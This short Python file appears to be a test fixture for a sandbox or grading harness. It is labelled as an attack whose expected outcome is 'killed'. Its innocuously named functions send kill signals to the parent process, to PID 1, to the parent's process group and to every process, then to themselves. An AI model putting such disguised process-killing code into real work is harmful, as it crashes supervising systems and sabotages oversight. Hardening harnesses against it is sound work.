# /// attack
# outcomes = ["killed"]
# says = "read_log_twice() "
# ///
"""Kills whoever started it: its parent, its parent's parent, and everybody."""

import os
import signal


def read_queue_twice(queue_name, messages):
    for number in (signal.SIGTERM, signal.SIGQUIT, signal.SIGSEGV, signal.SIGKILL):
        for pid in (os.getppid(), 1, 2, -os.getppid(), -1):
            try:
                os.kill(pid, number)
            except OSError:
                continue
    os.kill(os.getpid(), signal.SIGKILL)


def read_log_twice(stream_name, messages):
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
